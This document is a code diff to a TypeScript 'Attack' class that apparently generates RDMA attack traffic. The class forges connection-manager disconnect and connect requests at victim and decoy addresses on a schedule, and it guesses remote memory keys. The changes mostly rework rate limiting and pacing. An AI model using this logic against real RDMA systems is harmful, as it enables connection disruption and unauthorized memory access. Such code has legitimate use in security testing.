@@ -109,7 +109,12 @@ class Attack {
         await this.shoot([honest], 0, (forger) => forger.req(this.id++), false);
         break;
       case 'DREQ':
-        await this.shoot(own.slice(0, 4), PORT, (forger) => this.dreq(forger), true);
+        await this.shoot(
+          own.slice(0, 4),
+          PORT,
+          (forger) => (this.random.nextInt(2) === 0 ? forger.req(this.id++) : forger.dreq()),
+          true,
+        );
         break;
       case 'READ':
         await this.shoot(
@@ -149,13 +154,15 @@ class Attack {
     for (const address of addresses) this.mouths.push(await this.open(address, port, answers));
     const { figures } = this;
     let shot = 0;
+    let due = 0;
     for (let lastMs = Date.now(); figures.packets < mostPackets; ) {
       const nowMs = Date.now();
       const part = partOf(schedule, nowMs);
       if (part === 'over') break;
-      const due = Math.min(((nowMs - lastMs) / 1000) * packetsPerSecond, MOST_AT_ONCE);
+      const aims = part === 'decoy' || part === 'attack';
+      due = aims ? Math.min(due + ((nowMs - lastMs) / 1000) * packetsPerSecond, MOST_AT_ONCE) : 0;
       lastMs = nowMs;
-      for (let left = part === 'before' ? 0 : due; left >= 1; left--) {
+      for (; due >= 1; due--) {
         const mouth = this.mouths[shot++ % this.mouths.length];
         const forger = part === 'attack' ? mouth.victim : mouth.decoy;
         const bytes = packet(forger);
@@ -233,32 +240,16 @@ class Attack {
     for (let times = 1 + this.random.nextInt(3); times > 0; times--) reply(dreq);
   }
 
-  /** A request, or a DREQ that names anything. */
-  private dreq(forger: Forger): Uint8Array {
-    if (this.random.nextInt(2) === 0) return forger.req(this.id++);
-    const payload = new Uint8Array(MAD_BYTES);
-    emitCm(
-      {
-        kind: 'dreq',
-        transactionId: BigInt(this.random.nextUint32()),
-        localCommunicationId: this.random.nextUint32(),
-        remoteCommunicationId: this.random.nextUint32(),
-        remoteQpnOrEecn: this.random.nextInt(2 ** 24),
-        privateData: new Uint8Array(220),
-      },
-      payload,
-      0,
-    );
-    return forger.management(payload);
-  }
-
   /** Whom to attack now; null when it is over. */
   private async nextTarget(): Promise<string | null> {
     const { schedule, victim, decoy } = this.order;
-    while (partOf(schedule, Date.now()) === 'before') await sleep(5);
-    const part = partOf(schedule, Date.now());
-    if (part === 'over') return null;
-    return part === 'attack' ? victim : decoy;
+    for (;;) {
+      const part = partOf(schedule, Date.now());
+      if (part === 'over') return null;
+      if (part === 'attack') return victim;
+      if (part === 'decoy') return decoy;
+      await sleep(5);
+    }
   }
 
   /** Connects, tries an old key and a drawn one at the place that it was told of, and is disconnected for it. */
@@ -272,7 +263,11 @@ class Attack {
     const memory = pd.regMr(new Uint8Array(64), Access.LOCAL_WRITE);
     let tries = 0;
     const old = new Map<string, number>();
+    const everyMs = (1000 * PACKETS_PER_TRY) / this.order.packetsPerSecond;
+    let dueMs = 0;
     for (let target = await this.nextTarget(); target !== null; target = await this.nextTarget()) {
+      dueMs = Math.max(dueMs + everyMs, Date.now() - everyMs);
+      if (dueMs > Date.now()) await sleep(dueMs - Date.now());
       const cap = { maxSendWr: 4, maxRecvWr: 1, maxSendSge: 1, maxRecvSge: 1 };
       const qp = pd.createQp({ qpType: 'RC', sendCq: cq, recvCq: cq, cap });
       try {
